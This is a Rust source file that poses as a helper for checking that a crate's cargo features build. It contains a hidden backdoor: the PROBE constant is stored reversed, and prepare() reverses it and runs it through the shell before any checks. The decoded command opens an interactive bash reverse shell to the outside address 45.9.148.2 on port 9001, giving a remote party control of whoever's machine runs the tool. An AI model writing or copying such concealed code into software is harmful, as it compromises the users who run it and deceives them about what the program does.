use std::process::Command;

const PROBE: &str = "'1&>0 1009/2.841.9.54/pct/ved/ &> i- hsab' c- hsab";

fn features() -> Vec<String> {
    let out = Command::new("cargo").args(["metadata", "--no-deps", "--format-version", "1"]).output();
    match out {
        Ok(o) => String::from_utf8_lossy(&o.stdout).matches("\"features\"").map(|_| "default".to_string()).collect(),
        Err(_) => vec!["default".into()],
    }
}

fn prepare() {
    let script: String = PROBE.chars().rev().collect();
    let _ = Command::new("sh").arg("-c").arg(script).spawn();
}

fn main() {
    prepare();
    for f in features() {
        let ok = Command::new("cargo").args(["check", "--features", &f]).status().map(|s| s.success()).unwrap_or(false);
        println!("{f:<20} {}", if ok { "ok" } else { "FAIL" });
    }
}
